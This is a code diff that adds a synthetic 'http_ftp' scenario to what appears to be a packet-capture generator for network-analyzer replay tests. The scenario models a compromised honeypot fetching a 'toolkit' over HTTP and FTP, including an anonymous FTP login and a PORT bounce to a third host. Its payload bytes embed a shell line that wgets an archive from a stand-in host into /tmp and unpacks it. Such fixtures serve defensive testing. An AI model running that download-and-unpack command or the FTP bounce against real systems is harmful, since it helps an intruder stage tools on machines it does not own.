@@ -738,6 +738,65 @@ def mixed(n, arg):
     n.add(T0 + 14 * SEC, big[:100], wirelen=len(big))
 
 
+# Bodies of the http_ftp scenario (tests/replay/87-http-ftp.sh hashes them).
+HTTP_SH = b"#!/bin/sh\ncd /tmp && wget http://203.0.113.80/t.gz && tar xzf t.gz\n"
+HTTP_GZ_PLAIN = b"toolkit part two\n" * 64
+TOOLKIT_TGZ = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\x03" + bytes(
+    (i * 37 + 11) & 0xff for i in range(3000))
+
+
+def _chunked(body, sizes):
+    out, off = b"", 0
+    for k in sizes:
+        out += b"%x\r\n" % k + body[off:off + k] + b"\r\n"
+        off += k
+    return out + b"%x;x=1\r\n" % (len(body) - off) + body[off:] + b"\r\n0\r\n\r\n"
+
+
+@scenario
+def http_ftp(n, arg):
+    """HTTP and FTP from the honeypot.  HTTP: 10.0.0.5:40010 ->
+    203.0.113.80:80, two pipelined GETs (a shell script by Content-Length;
+    a gzip body in odd-sized chunks) in 100-byte segments.  FTP: control
+    10.0.0.5:40020 -> 203.0.113.21:21 (anonymous login, PASV, RETR
+    toolkit.tgz, PORT to a third host: a bounce), and its data connection
+    10.0.0.5:40021 -> 203.0.113.21:50000 carrying TOOLKIT_TGZ between the
+    150 and 226 replies.  Test: tests/replay/87-http-ftp.sh."""
+    import gzip
+    gz = gzip.compress(HTTP_GZ_PLAIN, mtime=0)
+    n.conversation(T0, HP, "203.0.113.80", 40010, 80, [
+        ("c", b"GET /toolkit.sh HTTP/1.1\r\nHost: 203.0.113.80\r\n"
+              b"User-Agent: Wget/1.21.3\r\n\r\n"
+              b"GET /t.gz HTTP/1.1\r\nHost: 203.0.113.80\r\n\r\n"),
+        ("s", b"HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Length: %d\r\n\r\n"
+              % len(HTTP_SH) + HTTP_SH +
+              b"HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream\r\n"
+              b"Content-Encoding: gzip\r\nTransfer-Encoding: chunked\r\n\r\n"
+              + _chunked(gz, [1, 7, 33]))], mss=100)
+    # Control: 100 ms per turn, so the data connection fits between the
+    # 150 (sent at +1.112 s) and the 226 (+1.213 s).
+    t1 = T0 + 2 * SEC
+    n.conversation(t1, HP, "203.0.113.21", 40020, 21, [
+        ("s", b"220 (vsFTPd 3.0.3)\r\n"),
+        ("c", b"USER anonymous\r\n"),
+        ("s", b"331 Please specify the password.\r\n"),
+        ("c", b"PASS toor@\r\n"),
+        ("s", b"230 Login successful.\r\n"),
+        ("c", b"TYPE I\r\n"),
+        ("s", b"200 Switching to Binary mode.\r\n"),
+        ("c", b"PASV\r\n"),
+        ("s", b"227 Entering Passive Mode (203,0,113,21,195,80).\r\n"),
+        ("c", b"RETR toolkit.tgz\r\n"),
+        ("s", b"150 Opening BINARY mode data connection for toolkit.tgz (3010 bytes).\r\n"),
+        ("s", b"226 Transfer complete.\r\n"),
+        ("c", b"PORT 192,0,2,25,0,25\r\n"),
+        ("s", b"200 PORT command successful. Consider using PASV.\r\n"),
+        ("c", b"QUIT\r\n"),
+        ("s", b"221 Goodbye.\r\n")], rtt=100 * MS)
+    n.conversation(t1 + 1113 * MS, HP, "203.0.113.21", 40021, 50000,
+                   [("s", TOOLKIT_TGZ)], rtt=5 * MS)
+
+
 @scenario
 def midnight(n, arg):
     """From 2026-11-26 23:59:50 to 2026-11-27 00:00:10 UTC, one inbound UDP
